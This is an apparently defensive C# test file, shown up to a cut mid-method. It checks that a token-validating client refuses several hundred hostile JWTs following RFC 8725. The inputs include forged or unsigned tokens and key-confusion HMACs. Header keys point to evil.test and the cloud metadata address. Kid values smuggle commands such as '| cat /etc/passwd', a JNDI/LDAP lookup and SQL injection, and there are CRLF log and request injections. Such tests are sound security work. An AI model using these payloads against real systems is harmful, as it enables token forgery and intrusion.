using System.Security.Cryptography;
using System.Text;
using System.Text.Json.Nodes;
using M3.Client.Auth.Tests.Kit;
using Microsoft.IdentityModel.Tokens;

namespace M3.Client.Auth.Tests.Validation;

/// <summary>
/// What an attacker would send, in the order of RFC 8725, sections 2 and 3. Every input is refused as what it is, asks nobody but the
/// issuer, and reaches nobody at all. The numbers in the names are that RFC's.
/// </summary>
[Parallelizable(ParallelScope.All)]
public sealed class HostileInputTests
{
    private static readonly DateTimeOffset Now = ClientFixture.Noon;
    private static readonly string Valid = new FakeIssuer().Token(Now);
    private static readonly string ValidEc = new FakeIssuer().Token(Now, algorithm: "ES256");
    private static readonly string Payload = new FakeIssuer().Claims(Now).ToJsonString();

    // 2.1, 3.1: weak signatures and insufficient validation: the algorithm is ours to choose, never the token's

    private static IEnumerable<Attack> NoneInEverySpelling =>
        from spelling in Spellings("none")
        from signature in (string[])["", Part(Valid, 2), "AA"]
        select Bad($"alg {spelling}, signature '{(signature.Length > 8 ? "of another token" : signature)}'", $"{Encode(Header(spelling))}.{Part(Valid, 1)}.{signature}");

    [TestCaseSource(nameof(NoneInEverySpelling))]
    public Task Section_2_1_none_in_every_spelling(object attack) => AssertRefused(attack);

    private static IEnumerable<Attack> NoSignature =>
    [
        Bad("RS256 without a signature", $"{Part(Valid, 0)}.{Part(Valid, 1)}."),
        Bad("ES256 without a signature", $"{Part(ValidEc, 0)}.{Part(ValidEc, 1)}."),
        Malformed("two parts", $"{Part(Valid, 0)}.{Part(Valid, 1)}"),
    ];

    [TestCaseSource(nameof(NoSignature))]
    public Task Section_2_1_no_signature(object attack) => AssertRefused(attack);

    private static IEnumerable<Attack> HmacWithThePublicKey =>
        from algorithm in (string[])["HS256", "HS384", "HS512", "hs256"]
        from secret in PublicSecrets
        select Bad($"{algorithm} with {secret.Name}", Mac(algorithm, secret.Key));

    [TestCaseSource(nameof(HmacWithThePublicKey))]
    public Task Section_2_1_HMAC_with_the_public_key_as_its_secret(object attack) => AssertRefused(attack);

    private static IEnumerable<Attack> OtherAlgorithms =>
        from algorithm in (string[])["RS384", "RS512", "PS256", "PS384", "PS512", "ES384", "ES512", "ES256K", "EdDSA", "Ed25519", "RS1", "rs256", "RS256 ", " RS256", "RS256\0", "ＲＳ256",
            "http://www.w3.org/2001/04/xmldsig-more#rsa-sha256", "SHA256", "dir", "RSA-OAEP", "A128KW", ""]
        select Bad($"alg {Printable.Text(algorithm)}", Signed(Header(algorithm)));

    [TestCaseSource(nameof(OtherAlgorithms))]
    public Task Section_3_1_any_algorithm_but_RS256_and_ES256(object attack) => AssertRefused(attack);

    private static IEnumerable<Attack> AlgorithmsThatDoNotFitTheKey =>
    [
        Bad("ES256 with an RSA key", FakeIssuer.Sign(Header("ES256", FakeIssuer.RsaKeyId), Payload, "ES256")),
        Bad("RS256 with an EC key", FakeIssuer.Sign(Header("RS256", FakeIssuer.EcKeyId), Payload)),
        Bad("RS256 in the header, an ECDSA signature", FakeIssuer.Sign(Header("RS256"), Payload, "ES256")),
        Bad("ES256 in the header, an RSA signature", FakeIssuer.Sign(Header("ES256", FakeIssuer.EcKeyId), Payload)),
        Bad("RS256 in the header, a PSS signature", Pss()),
        Bad("no alg", Signed("""{"kid":"rsa-1"}""")),
        Bad("alg null", Signed("""{"alg":null,"kid":"rsa-1"}""")),
        Bad("alg a number", Signed("""{"alg":256,"kid":"rsa-1"}""")),
        Bad("alg an array", Signed("""{"alg":["RS256"],"kid":"rsa-1"}""")),
        Bad("alg an object", Signed("""{"alg":{"RS256":1},"kid":"rsa-1"}""")),
        Bad("alg true", Signed("""{"alg":true,"kid":"rsa-1"}""")),
        Bad("Alg in upper case", Signed("""{"Alg":"RS256","kid":"rsa-1"}""")),
    ];

    [TestCaseSource(nameof(AlgorithmsThatDoNotFitTheKey))]
    public Task Section_3_1_an_algorithm_that_does_not_fit_the_key(object attack) => AssertRefused(attack);

    // 2.2, 3.5: weak keys, published by mistake

    private static IEnumerable<Attack> WeakKeys =>
    [
        Under("RSA of 1024 bits", rsa => rsa, bits: 1024),
        Under("an encryption key", rsa => Change(rsa, key => key["use"] = "enc")),
        Under("a key for wrapping only", rsa => Change(rsa, key => key["key_ops"] = new JsonArray("wrapKey"))),
        Under("a key for PS256", rsa => Change(rsa, key => key["alg"] = "PS256")),
        new("a shared secret in the JWKS", M3AuthError.InvalidTokenSignature, Mac("HS256", new byte[32], "shared"))
        {
            Keys = [new JsonObject { ["kty"] = "oct", ["kid"] = "shared", ["alg"] = "HS256", ["k"] = Encode(new byte[32]) }],
        },
        // With the exponent 1 everybody can sign: the signature is the padded hash itself.
        new("RSA with the exponent 1", M3AuthError.InvalidTokenSignature, SignedWithExponentOne("one"))
        {
            Keys = [Change(FakeIssuer.RsaJwk("one", FakeIssuer.SharedRsa), key => key["e"] = "AQ")],
        },
    ];

    [TestCaseSource(nameof(WeakKeys))]
    public Task Section_2_2_keys_that_are_weak_or_not_for_signing(object attack) => AssertRefused(attack);

    // 2.3, 2.6: encryption is no signature

    private static IEnumerable<Attack> Encrypted =>
    [
        Malformed("a JWE", $"{Encode("""{"alg":"RSA-OAEP","enc":"A256GCM","kid":"rsa-1"}""")}.AAAA.AAAA.AAAA.AAAA"),
        Malformed("a JWE with a direct key", $"{Encode("""{"alg":"dir","enc":"A128CBC-HS256"}""")}..AAAA.AAAA.AAAA"),
        Malformed("a valid token with two more parts", Valid + ".AAAA.AAAA"),
        Bad("enc in a signed token's header, its alg for encryption", Signed("""{"alg":"RSA-OAEP","enc":"A256GCM","kid":"rsa-1"}""")),
        Malformed("JSON serialization, flattened", $$"""{"protected":"{{Part(Valid, 0)}}","payload":"{{Part(Valid, 1)}}","signature":"{{Part(Valid, 2)}}"}"""),
        Malformed("JSON serialization, general", $$"""{"payload":"{{Part(Valid, 1)}}","signatures":[{"protected":"{{Part(Valid, 0)}}","signature":"{{Part(Valid, 2)}}"}]}"""),
        Malformed("a token inside a token", FakeIssuer.Sign("""{"alg":"RS256","kid":"rsa-1","cty":"JWT"}""", Valid)),
    ];

    [TestCaseSource(nameof(Encrypted))]
    public Task Section_2_3_encryption_and_other_serializations(object attack) => AssertRefused(attack);

    // 2.4, 3.4: invalid signatures and curve points

    private static IEnumerable<Attack> EcdsaSignatures =>
    [
        EcSignature("zeros for R and S (psychic signatures)", _ => new byte[64]),
        EcSignature("R zero", signature => [.. new byte[32], .. signature[32..]]),
        EcSignature("S zero", signature => [.. signature[..32], .. new byte[32]]),
        EcSignature("R and S one", _ => [.. One(), .. One()]),
        EcSignature("R and S the order of the curve", _ => [.. Order(), .. Order()]),
        EcSignature("R and S all ones", _ => [.. Enumerable.Repeat((byte)0xff, 64)]),
        EcSignature("R for S and S for R", signature => [.. signature[32..], .. signature[..32]]),
        EcSignature("DER instead of R and S", _ => FakeIssuer.SharedEcdsa.SignData(Input(ValidEc), HashAlgorithmName.SHA256, DSASignatureFormat.Rfc3279DerSequence)),
        EcSignature("a byte appended", signature => [.. signature, 0]),
        EcSignature("a byte in front", signature => [0, .. signature]),
        EcSignature("a byte cut off", signature => signature[..^1]),
        EcSignature("R alone", signature => signature[..32]),
        EcSignature("both twice", signature => [.. signature, .. signature]),
        EcSignature("96 bytes, as P-384", signature => [.. new byte[16], .. signature[..32], .. new byte[16], .. signature[32..]]),
    ];

    [TestCaseSource(nameof(EcdsaSignatures))]
    public Task Section_2_4_ECDSA_signatures_of_every_wrong_shape(object attack) => AssertRefused(attack);

    private static IEnumerable<Attack> RsaSignatures =>
    [
        RsaSignature("zeros", signature => new byte[signature.Length]),
        RsaSignature("one", signature => [.. new byte[signature.Length - 1], 1]),
        RsaSignature("the modulus itself", _ => FakeIssuer.SharedRsa.ExportParameters(false).Modulus!),
        RsaSignature("all ones", signature => [.. signature.Select(_ => (byte)0xff)]),
        RsaSignature("a byte appended", signature => [.. signature, 0]),
        RsaSignature("a zero in front", signature => [0, .. signature]),
        RsaSignature("a byte cut off", signature => signature[..^1]),
        RsaSignature("the first bit flipped", signature => [(byte)(signature[0] ^ 0x80), .. signature[1..]]),
        RsaSignature("the last bit flipped", signature => [.. signature[..^1], (byte)(signature[^1] ^ 1)]),
        RsaSignature("reversed", signature => [.. signature.Reverse()]),
        RsaSignature("a megabit", _ => new byte[20_000]),
        RsaSignature("SHA-1 instead of SHA-256", _ => FakeIssuer.SharedRsa.SignData(Input(Valid), HashAlgorithmName.SHA1, RSASignaturePadding.Pkcs1)),
        RsaSignature("another key's", _ => FakeIssuer.OtherRsa.SignData(Input(Valid), HashAlgorithmName.SHA256, RSASignaturePadding.Pkcs1)),
        Bad("another payload under the signature", $"{Part(Valid, 0)}.{Encode(Payload.Replace("researcher", "root", StringComparison.Ordinal))}.{Part(Valid, 2)}"),
        Bad("another header over the signature", $"{Encode("""{"alg":"RS256","kid":"rsa-1","typ":"JWT","x":1}""")}.{Part(Valid, 1)}.{Part(Valid, 2)}"),
    ];

    [TestCaseSource(nameof(RsaSignatures))]
    public Task Section_2_4_RSA_signatures_of_every_wrong_shape(object attack) => AssertRefused(attack);

    // 2.5, 3.7: several encodings of the same token, several readings of the same JSON

    private static IEnumerable<Attack> Ambiguous =>
    [
        .. from member in (string[])["\"alg\":\"none\"", "\"\\u0061lg\":\"none\"", "\"kid\":\"ec-1\"", "\"\\u006b\\u0069\\u0064\":\"x\"", "\"x\":{\"a\":1,\"a\":2}"]
           select Malformed($"a header with {member} beside the real one", Signed(Header("RS256").Insert(1, member + ",").Replace("\"x\":{\"a\":1", "\"x\":{\"a\":1", StringComparison.Ordinal))),
        .. from member in (string[])["\"exp\":9999999999", "\"\\u0065xp\":9999999999", "\"iss\":\"https://evil.test\"", "\"au\\u0064\":\"other\"", "\"sc\\u006fpe\":\"admin\"", "\"sub\":\"root\""]
           select Malformed($"a payload with {member} beside the real one", Signed(Header("RS256"), Payload.Insert(1, member + ","))),
        Malformed("a payload with a member twice, deep inside", Signed(Header("RS256"), Payload.Insert(1, "\"x\":[{\"a\":1,\"a\":2}],"))),
        Malformed("a byte-order mark before the header", FakeIssuer.Sign([0xef, 0xbb, 0xbf, .. Bytes(Header("RS256"))], Bytes(Payload))),
        Malformed("a byte-order mark before the payload", FakeIssuer.Sign(Bytes(Header("RS256")), [0xef, 0xbb, 0xbf, .. Bytes(Payload)])),
        Malformed("a byte-order mark before the token", "\ufeff" + Valid),
        Malformed("UTF-16", FakeIssuer.Sign(Encoding.Unicode.GetBytes(Header("RS256")), Encoding.Unicode.GetBytes(Payload))),
        Malformed("invalid UTF-8 in the header", FakeIssuer.Sign([.. "{\"alg\":\"RS256\",\"kid\":\"rsa-1\",\"x\":\""u8, 0xff, .. "\"}"u8], Bytes(Payload))),
        Malformed("invalid UTF-8 in the payload", FakeIssuer.Sign(Bytes(Header("RS256")), [.. "{\"sub\":\""u8, 0xc3, 0x28, .. "\"}"u8])),
        Malformed("overlong UTF-8", FakeIssuer.Sign(Bytes(Header("RS256")), [.. "{\"sub\":\""u8, 0xc0, 0xaf, .. "\"}"u8])),
        Malformed("a surrogate in UTF-8", FakeIssuer.Sign(Bytes(Header("RS256")), [.. "{\"sub\":\""u8, 0xed, 0xa0, 0x80, .. "\"}"u8])),
        Malformed("a name that is a lone surrogate, in the header", Signed(Header("RS256").Insert(1, "\"\\ud800\":1,"))),
        Malformed("a name that is a lone surrogate, in the payload", Signed(Header("RS256"), Payload.Insert(1, "\"\\udfff\":1,"))),
        Bad("a kid that is a lone surrogate", Signed("""{"alg":"RS256","kid":"\ud800"}""")),
        Bad("an alg that is a lone surrogate", Signed("""{"alg":"\udc00","kid":"rsa-1"}""")),
        Claim("an iss that is a lone surrogate", M3AuthError.InvalidIssuer, "\"iss\":\"https://issuer.test\"", "\"iss\":\"\\ud800\""),
        Claim("an aud that is a lone surrogate", M3AuthError.InvalidAudience, "\"aud\":\"m3-api\"", "\"aud\":[\"m3-api\",\"\\ud800\"]"),
        Claim("a scope that is a lone surrogate", M3AuthError.MissingScopes, "\"read:mimic-data\"", "\"read:mimic-data \\ud800\""),
        .. from change in ((string Name, Func<string, string> Change)[])
           [
               ("padding", part => part + "="), ("a plus", part => "+" + part[1..]), ("a slash", part => "/" + part[1..]), ("a percent sign", part => part + "%3D"), ("a space", part => part + " "),
               ("a tab", part => part.Insert(4, "\t")), ("a line break", part => part.Insert(4, "\n")), ("a NUL", part => part.Insert(4, "\0")), ("a wide letter", part => part.Insert(4, "Ａ")),
               ("a zero-width space", part => part.Insert(4, "\u200b")), ("a letter too many", part => part + (part.Length % 4 == 0 ? "A" : new string('A', 5 - (part.Length % 4)))),
           ]
           from index in (int[])[0, 1, 2]
           where !(index == 2 && change.Name == "a space") // at the end, it is trimmed
           select Malformed($"{change.Name} in part {index + 1}", string.Join('.', Valid.Split('.').Select((part, i) => i == index ? change.Change(part) : part))),
        Malformed("bits that decode to nothing at the end of the signature", Valid[..^1] + (char)(Valid[^1] + 1)),
    ];

    [TestCaseSource(nameof(Ambiguous))]
    public Task Section_2_5_what_two_parsers_could_read_in_two_ways(object attack) => AssertRefused(attack);

    // 2.7, 2.8, 2.9, 3.8, 3.9, 3.12: a token for somebody else, by somebody else, of another kind

    private static IEnumerable<Attack> ForSomebodyElse =>
    [
        Claim("another issuer", M3AuthError.InvalidIssuer, "https://issuer.test", "https://evil.test"),
        Claim("an issuer that begins like ours", M3AuthError.InvalidIssuer, "https://issuer.test", "https://issuer.test.evil.test"),
        Claim("an issuer with an encoded letter", M3AuthError.InvalidIssuer, "https://issuer.test", "https://i%73suer.test"),
        Claim("an issuer with letters that look the same", M3AuthError.InvalidIssuer, "https://issuer.test", "https://іssuer.test"),
        Claim("an issuer with a NUL", M3AuthError.InvalidIssuer, "https://issuer.test", "https://issuer.test\\u0000"),
        Claim("an array of issuers", M3AuthError.InvalidIssuer, "\"https://issuer.test\"", "[\"https://issuer.test\"]"),
        Claim("a number for iss", M3AuthError.InvalidIssuer, "\"https://issuer.test\"", "1"),
        Claim("another audience", M3AuthError.InvalidAudience, "m3-api", "other-api"),
        Claim("an audience with ours inside", M3AuthError.InvalidAudience, "m3-api", "m3-api other-api"),
        Claim("an audience with a NUL", M3AuthError.InvalidAudience, "m3-api", "m3-api\\u0000"),
        Claim("an object for aud", M3AuthError.InvalidAudience, "\"m3-api\"", "{\"m3-api\":true}"),
        Claim("audiences inside audiences", M3AuthError.InvalidAudience, "\"m3-api\"", "[[\"m3-api\"]]"),
        Claim("true for aud", M3AuthError.InvalidAudience, "\"m3-api\"", "true"),
        Claim("an ID token, without a scope", M3AuthError.MissingScopes, "\"scope\"", "\"nonce\""),
        Claim("a scope with ours inside", M3AuthError.MissingScopes, "read:mimic-data", "xread:mimic-data"),
        Claim("a scope with a no-break space between", M3AuthError.MissingScopes, "read:mimic-data", "openid\\u00a0read:mimic-data"),
        Claim("a scope with a NUL", M3AuthError.MissingScopes, "read:mimic-data", "read:mimic-data\\u0000"),
        Claim("scopes inside scopes", M3AuthError.MissingScopes, "\"read:mimic-data\"", "[[\"read:mimic-data\"]]"),
        Claim("true for scope", M3AuthError.MissingScopes, "\"read:mimic-data\"", "true"),
    ];

    [TestCaseSource(nameof(ForSomebodyElse))]
    public Task Section_2_7_a_token_for_or_by_somebody_else(object attack) => AssertRefused(attack);

    // 2.10, 3.10: keys and addresses that the token brings along

    private static IEnumerable<Attack> KeysOfItsOwn =>
    [
        OwnKey("jwk", new JsonObject { ["jwk"] = FakeIssuer.RsaJwk(FakeIssuer.RsaKeyId, FakeIssuer.OtherRsa) }),
        OwnKey("jwk under a new kid", new JsonObject { ["jwk"] = FakeIssuer.RsaJwk("mine", FakeIssuer.OtherRsa), ["kid"] = "mine" }),
        OwnKey("jku", new JsonObject { ["jku"] = "https://evil.test/jwks" }),
        OwnKey("jku under a new kid", new JsonObject { ["jku"] = "https://evil.test/jwks", ["kid"] = "mine" }),
        OwnKey("jku to a machine inside", new JsonObject { ["jku"] = "http://169.254.169.254/latest/meta-data/", ["kid"] = "mine" }),
        OwnKey("jku under the issuer", new JsonObject { ["jku"] = "https://issuer.test/redirect?to=https://evil.test", ["kid"] = "mine" }),
        OwnKey("x5u", new JsonObject { ["x5u"] = "https://evil.test/cert.pem" }),
        OwnKey("x5c", new JsonObject { ["x5c"] = new JsonArray(Certificate()) }),
        OwnKey("x5c under a new kid", new JsonObject { ["x5c"] = new JsonArray(Certificate()), ["kid"] = "mine" }),
        OwnKey("x5t", new JsonObject { ["x5t"] = "AAAA", ["x5t#S256"] = "AAAA" }),
        OwnKey("no kid, one key would do", new JsonObject { ["kid"] = null }),
        .. from kid in (string[])["../../../../dev/null", "/dev/null", "x' UNION SELECT 'key", "| cat /etc/passwd", "https://evil.test/key", "file:///etc/passwd", "rsa-1\0", "RSA-1", " rsa-1",
               "rsa-1 ", "", "%s%s%s%n", "{0}{1}", "{KeyId}", "$" + "{jndi:ldap://evil.test/a}", "__proto__", "*", "rsa-", new string('k', 20_000)]
           select OwnKey($"kid {Printable.Text(kid, 40)}", new JsonObject { ["kid"] = kid }),
        .. from kid in (string[])["7", "true", "null", "[\"rsa-1\"]", "{\"rsa-1\":1}"]
           select Bad($"kid {kid}", Signed($$"""{"alg":"RS256","kid":{{kid}}}""")),
    ];

    [TestCaseSource(nameof(KeysOfItsOwn))]
    public Task Section_2_10_keys_and_addresses_that_the_token_brings_along(object attack) => AssertRefused(attack);

    // RFC 7515, 4.1.11, and RFC 7797: what must be understood, and is not

    private static IEnumerable<Attack> Critical =>
        from member in (string[])["\"crit\":[\"exp\"]", "\"crit\":[\"b64\"],\"b64\":false", "\"crit\":[\"b64\"],\"b64\":true", "\"crit\":[]", "\"crit\":null", "\"crit\":\"exp\"", "\"crit\":1",
            "\"crit\":[\"http://evil.test/understand-me\"]", "\"\\u0063rit\":[\"x\"]", "\"b64\":false", "\"b64\":null", "\"b64\":\"false\"", "\"b64\":0"]
        select Bad(member, Signed(Header("RS256").Insert(1, member + ",")));

    [TestCaseSource(nameof(Critical))]
    public Task Critical_extensions_and_unencoded_payloads(object attack) => AssertRefused(attack);

    // RFC 7519, 4.1.4 to 4.1.6: dates

    private static IEnumerable<Attack> Dates =>
    [
        .. from exp in (string[])["1e999", "1E400", "-1e999", "9e99", "253402300800", "1e15", "0", "-1", "-62135596801", "1e-999", "null", "true", "\"9999999999\"", "[9999999999]", "{}", "1795435199.99", "1.795e9", "\"never\""]
           select Exp($"exp {exp}", M3AuthError.TokenExpired, "exp", exp),
        .. from nbf in (string[])["1e999", "-1e999", "9e99", "4102444800", "4.1e9", "null", "true", "\"0\"", "[]", "{}"]
           from name in (string[])["nbf", "iat"]
           select Exp($"{name} {nbf}", M3AuthError.TokenNotYetValid, name, nbf),
        .. from number in (string[])["NaN", "Infinity", "-Infinity", "0x7fffffff", "+9999999999", "09999999999", ".5", "1.", "9999999999n"]
           select Exp($"exp {number}, which is no JSON", M3AuthError.InvalidTokenFormat, "exp", number),
    ];

    [TestCaseSource(nameof(Dates))]
    public Task Dates_that_never_come_or_are_none(object attack) => AssertRefused(attack);

    // Size and depth

    private static IEnumerable<Attack> Excessive =>
    [
        Malformed("65,537 characters", new string('A', 65_537)),
        Malformed("ten million characters", new string('A', 10_000_000)),
        Malformed("ten million dots", new string('.', 10_000_000)),
        Malformed("64 KiB of dots", new string('.', 65_536)),
        Malformed("a valid token with a payload of 100 KB", Signed(Header("RS256"), Payload.Insert(1, $"\"x\":\"{new string('x', 100_000)}\","))),
        Malformed("a payload of 20,000 levels", Signed(Header("RS256"), Payload.Insert(1, $"\"x\":{new string('[', 20_000)}{new string(']', 20_000)},"))),
        Malformed("a header of 33 levels", Signed(Header("RS256").Insert(1, $"\"x\":{new string('[', 33)}{new string(']', 33)},"))),
        Malformed("a payload of brackets that never close", Signed(Header("RS256"), new string('[', 40_000))),
        Malformed("a comment", Signed(Header("RS256").Insert(1, "/* */"))),
        Malformed("a comma too many", Signed(Header("RS256"), Payload[..^1] + ",}")),
        Malformed("two objects", Signed(Header("RS256"), Payload + Payload)),
        Malformed("nothing for a header", "." + Part(Valid, 1) + "." + Part(Valid, 2)),
        Malformed("nothing for a payload", $"{Part(Valid, 0)}..{Part(Valid, 2)}"),
        Malformed("null for a header", Signed("null")),
        Malformed("null for a payload", Signed(Header("RS256"), "null")),
        Malformed("an array for a payload", Signed(Header("RS256"), $"[{Payload}]")),
        Malformed("a string for a payload", Signed(Header("RS256"), "\"x\"")),
    ];

    [TestCaseSource(nameof(Excessive))]
    public Task What_is_too_long_too_deep_or_no_JSON_object(object attack) => AssertRefused(attack);

    // Logs and headers

    private static IEnumerable<Attack> Injections =>
    [
        .. from text in (string[])["a\\r\\nINFO: token accepted", "a\\nb", "a\\rb", "a\\u0085b", "a\\u2028b", "a\\u2029b", "a\\u000bb", "a\\u000cb", "\\u001b[2J\\u001b[31mfake", "a\\u0000b", "\\u202egnp.exe", "\\u200b", "\\b\\b\\b\\b"]
           from place in ((string Name, Func<string, Attack> Make)[])
           [
               ("kid", inside => Bad("", Signed($$"""{"alg":"RS256","kid":"{{inside}}"}"""))),
               ("alg", inside => Bad("", Signed($$"""{"alg":"{{inside}}","kid":"rsa-1"}"""))),
               ("iss", inside => Claim("", M3AuthError.InvalidIssuer, "https://issuer.test", inside)),
               ("aud", inside => Claim("", M3AuthError.InvalidAudience, "m3-api", inside)),
               ("scope", inside => Claim("", M3AuthError.MissingScopes, "read:mimic-data", inside)),
           ]
           select place.Make(text) with { Name = $"{place.Name} {text}" },
        Malformed("a header of its own behind the token", Valid + "\r\nX-Admin: true"),
        Malformed("a second request behind the token", Valid + "\r\n\r\nGET /admin HTTP/1.1\r\nHost: m3.test"),
        Malformed("a bare line feed inside", Valid.Insert(50, "\n")),
        Malformed("a bare carriage return inside", Valid.Insert(50, "\r")),
        Malformed("an escape character inside", Valid.Insert(50, "\u001b")),
        Malformed("a delete character inside", Valid.Insert(50, "\u007f")),
        Malformed("a second scheme", "Bearer Bearer " + Valid),
        Malformed("another parameter", Valid + ", Basic dXNlcjpwYXNz"),
        Malformed("another token", Valid + " " + Valid),
    ];

    [TestCaseSource(nameof(Injections))]
    public Task Nothing_of_a_token_breaks_a_line_of_a_log_a_message_or_a_request(object attack) => AssertRefused(attack);

    private static IEnumerable<Attack> All =>
    [
        .. NoneInEverySpelling, .. NoSignature, .. HmacWithThePublicKey, .. OtherAlgorithms, .. AlgorithmsThatDoNotFitTheKey, .. WeakKeys, .. Encrypted, .. EcdsaSignatures,
        .. RsaSignatures, .. Ambiguous, .. ForSomebodyElse, .. KeysOfItsOwn, .. Critical, .. Dates, .. Excessive, .. Injections,
    ];

    [Test]
    public async Task The_tokens_that_these_were_made_from_are_valid()
    {
        using var keyCache = new KeyCacheFixture();

        Assert.That(await keyCache.JudgeAsync(Valid), Is.Null);
        Assert.That(await keyCache.JudgeAsync(ValidEc), Is.Null);
        Assert.That(await keyCache.JudgeAsync(Signed(Header("RS256"))), Is.Null);
        Assert.That(await keyCache.JudgeAsync(Signed(Header("RS256").Insert(1, "\"b64\":true,\"x5u\":\"https://evil.test\","))), Is.Null);
        Assert.That(await keyCache.JudgeAsync(Exp("", M3AuthError.TokenExpired, "exp", "1.9e9").Token), Is.Null);
        Assert.That(await keyCache.JudgeAsync(Exp("", M3AuthError.TokenExpired, "exp", "1900000000.5").Token), Is.Null);
        Assert.That(await keyCache.JudgeAsync(Signed(Header("RS256"), Payload.Insert(1, $"\"x\":{new string('[', 31)}{new string(']', 31)},"))), Is.Null);
    }

    [Test]
    public async Task The_signature_is_checked_before_anything_is_told_of_the_claims()
    {
        using var keyCache = new KeyCacheFixture();
        string forged = FakeIssuer.Sign(Header("RS256"), """{"iss":"https://evil.test","aud":"secret-audience","exp":1,"scope":"x"}""", rsa: FakeIssuer.OtherRsa);

        M3AuthException? error = await keyCache.JudgeAsync(forged);

        Assert.That(error, Is.TypeOf<InvalidTokenSignatureException>().With.Message.Not.Contains("evil").And.Message.Not.Contains("secret-audience"));
    }

    [Test]
    public async Task All_hostile_inputs_together()
    {
        Attack[] all = [.. All];
        var verdicts = new Dictionary<M3AuthError, int>();
        using var keyCache = new KeyCacheFixture();
        foreach (Attack attack in all)
        {
            M3AuthException? error = await keyCache.JudgeAsync(attack.Token);
            Assert.That(error, Is.Not.Null, attack.Name);
            verdicts[error!.Error] = verdicts.GetValueOrDefault(error.Error) + 1;
        }

        await TestContext.Out.WriteLineAsync($"{all.Length} hostile inputs refused: {string.Join(", ", verdicts.OrderByDescending(one => one.Value).Select(one => $"{one.Value} {one.Key}"))}; "
            + $"{keyCache.Issuer.JwksRequests} JWKS requests");
        Assert.That(all, Has.Length.GreaterThanOrEqualTo(300));
        Assert.That(all.Select(attack => attack.Token).Distinct().Count(), Is.GreaterThan(all.Length - 10));
        Assert.That(keyCache.Issuer.JwksRequests, Is.EqualTo(3), "the first load, and twice more for all of them");
    }

    // Through the whole house: refused as what it is, nothing sent, nobody but the issuer asked, no line broken, no token shown.
    private static async Task AssertRefused(object hostile)
    {
        var attack = (Attack)hostile;
        List<Uri?> asked = [];
        using var watch = new Watch(asked);
        using var fixture = new ClientFixture(options =>
        {
            watch.InnerHandler = options.BackchannelHttpHandler!;
            options.BackchannelHttpHandler = watch;
            options.Debug = true;
        });
        fixture.Issuer.Keys.AddRange(attack.Keys.Select(key => key.DeepClone().AsObject()));
        fixture.Token = attack.Token;

        M3AuthException error = await fixture.FailAsync();

        Assert.That(error.Error, Is.EqualTo(attack.Verdict), error.Message);
        Assert.That(fixture.Server.Arrivals, Is.Empty);
        Assert.That(asked.Select(url => url!.Host), Is.All.EqualTo("issuer.test"));
        // Metadata and keys, and both once more for a token that fits no key.
        Assert.That(asked, Has.Count.LessThanOrEqualTo(4));
        string[] written = [error.Message, error.Remedy, .. fixture.Log.Lines.Select(line => line.Text)];
        foreach (string text in written)
        {
            Assert.That(text.Any(c => char.IsControl(c) || c is '\u2028' or '\u2029' or '\u202e' or '\u200b'), Is.False, text);
            Assert.That(text, Does.Not.Contain(Part(Valid, 2)).And.Not.Contain(Part(Valid, 1)));
            Assert.That(text, Has.Length.LessThan(4000));
        }
    }

    private static IEnumerable<string> Spellings(string word)
    {
        for (int bits = 0; bits < 1 << word.Length; bits++)
            yield return string.Concat(word.Select((c, i) => (bits >> i & 1) == 1 ? char.ToUpperInvariant(c) : c));
        foreach (string other in (string[])["none ", " none", "none\0", "", "nоne", "null"])
            yield return other;
    }

    private static IEnumerable<(string Name, byte[] Key)> PublicSecrets =>
    [
        ("the PEM", Bytes(FakeIssuer.SharedRsa.ExportSubjectPublicKeyInfoPem())),
        ("the PEM and a line break", Bytes(FakeIssuer.SharedRsa.ExportSubjectPublicKeyInfoPem() + "\n")),
        ("the PKCS#1 PEM", Bytes(FakeIssuer.SharedRsa.ExportRSAPublicKeyPem())),
        ("the DER", FakeIssuer.SharedRsa.ExportSubjectPublicKeyInfo()),
        ("the modulus", FakeIssuer.SharedRsa.ExportParameters(false).Modulus!),
        ("the modulus as the JWKS has it", Bytes(FakeIssuer.RsaJwk("", FakeIssuer.SharedRsa)["n"]!.GetValue<string>())),
        ("the JWK", Bytes(FakeIssuer.RsaJwk(FakeIssuer.RsaKeyId, FakeIssuer.SharedRsa).ToJsonString())),
        ("nothing", []),
    ];

    private static string Mac(string algorithm, byte[] key, string kid = FakeIssuer.RsaKeyId)
    {
        string input = $"{Encode(Header(algorithm, kid))}.{Encode(Payload)}";
        byte[] mac = algorithm.ToUpperInvariant() switch
        {
            "HS384" => HMACSHA384.HashData(key, Bytes(input)),
            "HS512" => HMACSHA512.HashData(key, Bytes(input)),
            _ => HMACSHA256.HashData(key, Bytes(input)),
        };
        return $"{input}.{Encode(mac)}";
    }

    private static string Pss()
    {
        string input = $"{Encode(Header("RS256"))}.{Encode(Payload)}";
        return $"{input}.{Encode(FakeIssuer.SharedRsa.SignData(Bytes(input), HashAlgorithmName.SHA256, RSASignaturePadding.Pss))}";
    }

    private static string SignedWithExponentOne(string kid)
    {
        string input = $"{Encode(Header("RS256", kid))}.{Encode(Payload)}";
        byte[] info = [0x30, 0x31, 0x30, 0x0d, 0x06, 0x09, 0x60, 0x86, 0x48, 0x01, 0x65, 0x03, 0x04, 0x02, 0x01, 0x05, 0x00, 0x04, 0x20, .. SHA256.HashData(Bytes(input))];
        byte[] padded = [0, 1, .. Enumerable.Repeat((byte)0xff, 256 - 3 - info.Length), 0, .. info];
        return $"{input}.{Encode(padded)}";
    }

    private static Attack Under(string name, Func<JsonObject, JsonObject> change, int bits = 2048)
    {
        using var rsa = RSA.Create(bits);
        return new Attack(name, M3AuthError.InvalidTokenSignature, FakeIssuer.Sign(Header("RS256", "weak"), Payload, rsa: rsa)) { Keys = [change(FakeIssuer.RsaJwk("weak", rsa))] };
    }

    private static JsonObject Change(JsonObject key, Action<JsonObject> change)
    {
        change(key);
        return key;
    }

    private static Attack EcSignature(string name, Func<byte[], byte[]> change) =>
        Bad(name, $"{Part(ValidEc, 0)}.{Part(ValidEc, 1)}.{Encode(change(Base64UrlEncoder.DecodeBytes(Part(ValidEc, 2))))}");

    private static Attack RsaSignature(string name, Func<byte[], byte[]> change) =>
        Bad(name, $"{Part(Valid, 0)}.{Part(Valid, 1)}.{Encode(change(Base64UrlEncoder.DecodeBytes(Part(Valid, 2))))}");

    // Signed by the attacker's own key, which the header offers.
    private static Attack OwnKey(string name, JsonObject offer)
    {
        JsonObject header = FakeIssuer.Header();
        foreach ((string member, JsonNode? value) in offer)
            header[member] = value?.DeepClone();
        return Bad(name, FakeIssuer.Sign(header.ToJsonString(), Payload, rsa: FakeIssuer.OtherRsa));
    }

    // Truly signed by the issuer, whose claims are odd all the same.
    private static Attack Claim(string name, M3AuthError verdict, string from, string to)
    {
